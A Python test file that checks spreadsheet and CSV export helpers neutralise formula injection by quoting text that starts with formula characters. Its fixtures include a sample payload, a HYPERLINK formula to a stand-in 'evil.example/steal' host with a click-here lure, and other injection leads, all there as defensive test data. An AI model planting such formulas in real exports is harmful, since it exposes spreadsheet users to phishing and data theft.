"""Formula injection: text in every export is text (never a live formula) and starts harmlessly."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from anju.core.sheets import formula_like, safe_row, safe_text, write_table, write_table_stream

EVIL = '=HYPERLINK("http://evil.example/steal","点此查看")'
LEADS = [EVIL, "=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"]


def _cells(data: bytes, sheet: str):
    ws = load_workbook(io.BytesIO(data))[sheet]
    return [list(r) for r in ws.iter_rows(min_row=2)]


class TestNeutralising:
    def test_a_leading_formula_character_gets_a_quote_and_plain_text_does_not(self):
        for text in LEADS:
            assert safe_text(text) == "'" + text
        for text in ("张三", "甲公司", "'=already", "a=b", "", "－全角"):
            assert safe_text(text) == text

    def test_text_that_is_only_a_number_is_not_a_formula(self):
        for text in ("-12.50", "+3.5%", "-1,234", "+8613800000000"):
            assert safe_text(text) == text
            assert not formula_like(text)

    def test_csv_rows_neutralise_text_but_keep_numbers(self):
        buf = io.StringIO()
        csv.writer(buf).writerow(safe_row([EVIL, -5, "-5", "张三", None]))
        assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'" + EVIL, "-5", "-5", "张三", ""]


class TestWorkbooks:
    def test_write_table_stores_every_text_as_a_neutralised_string(self):
        rows = [[text, -1250, "-12.50"] for text in LEADS] + [["#N/A", 3, "x"]]
        for data in (write_table(["姓名", "金额", "说明"], rows, sheet="清单", notes=["=1+2"]),
                     write_table_stream(["姓名", "金额", "说明"], iter(rows), sheet="清单", notes=["=1+2"])):
            got = _cells(data, "清单")
            for text, (name, amount, note) in zip(LEADS, got, strict=False):
                assert name.data_type == "s" and name.value == "'" + text
                assert amount.data_type == "n" and amount.value == -1250  # a negative number stays a number
                assert note.data_type == "s" and note.value == "-12.50"
            assert got[-1][0].data_type == "s" and got[-1][0].value == "#N/A"  # text, not an error cell
            info = load_workbook(io.BytesIO(data))["填表说明"]
            assert info["A1"].data_type == "s" and info["A1"].value == "'=1+2"

    def test_text_columns_are_neutralised_too(self):
        data = write_table(["证件号码"], [["=1+1"], [123]], text_columns=["证件号码"])
        got = _cells(data, "Sheet1")
        assert (got[0][0].data_type, got[0][0].value) == ("s", "'=1+1")
        assert (got[1][0].data_type, got[1][0].value) == ("s", "123")
